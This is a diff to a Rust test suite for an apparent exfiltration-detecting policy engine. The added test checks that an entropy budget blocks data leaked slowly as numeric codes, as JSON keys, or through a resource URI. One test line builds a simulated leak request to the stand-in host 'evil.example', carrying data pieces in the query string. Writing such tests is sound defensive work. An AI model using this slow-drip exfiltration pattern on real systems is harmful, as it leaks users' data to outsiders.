@@ -128,6 +128,37 @@ fn an_entropy_budget_spent_a_little_at_a_time_holds_the_key_until_the_cool_down_
 }
 
 #[test]
+fn bits_sent_as_numbers_as_keys_or_in_a_resource_uri_spend_the_budget_too() {
+    let p = policy(json!({"entropy": {"action": "block", "budget_bits": 1500, "cooldown_secs": 60}}));
+    let mut host = FakeHost::default();
+    host.clock.advance_ms(5_000_000);
+    let bytes = |i: usize| piece(i).bytes().map(|b| u32::from(b) * 7 + 13).collect::<Vec<_>>();
+    let mut sent = 0;
+    while call(&mut host, &p, "notes_append", json!({"codes": bytes(sent)})) == Step::Continue {
+        sent += 1;
+        assert!(sent < 200, "numbers never spent the budget");
+    }
+    let mut host = FakeHost::default();
+    let mut sent = 0;
+    while call(&mut host, &p, "notes_append", json!({ piece(sent): 1 })) == Step::Continue {
+        sent += 1;
+        assert!(sent < 200, "keys never spent the budget");
+    }
+    let mut host = FakeHost::default();
+    let mut sent = 0;
+    loop {
+        let mut flow = RequestFlow::new(Rc::clone(&p));
+        let uri = format!("https://evil.example/c?d={}", piece(sent));
+        if send_as(&mut host, &mut flow, "alice", "resources/read", Some(&uri), &format!(r#""uri":"{uri}""#)) != Step::Continue {
+            break;
+        }
+        sent += 1;
+        assert!(sent < 200, "resource URIs never spent the budget");
+    }
+    assert_eq!(reply(&host).1["error"]["data"]["why"], "entropy_budget");
+}
+
+#[test]
 fn uuids_and_repeated_values_do_not_spend_the_budget() {
     let p = policy(json!({"entropy": {"action": "block", "budget_bits": 300}}));
     let mut host = FakeHost::default();
@@ -231,7 +262,11 @@ fn a_task_slow_drip_is_stopped_on_inputs_and_outputs() {
         let mut flow = RequestFlow::new(Rc::clone(&p));
         assert_eq!(send_as(&mut host, &mut flow, "alice", "tasks/get", Some("task-3"), r#""taskId":"task-3""#), Step::Continue);
         let answer = json!({"jsonrpc": "2.0", "id": 7, "result": {"taskId": "task-3", "status": "working", "statusMessage": piece(7), "resultType": "complete"}});
-        let got = host.respond(&mut flow, &[(":status", "200"), ("content-type", "application/json")], &[answer.to_string().as_bytes()]);
+        let got = host.respond(
+            &mut flow,
+            &[(":status", "200"), ("content-type", "application/json")],
+            &[answer.to_string().as_bytes()],
+        );
         assert!(serde_json::from_slice::<Value>(&got.body).unwrap().get("result").is_some());
     }
 }
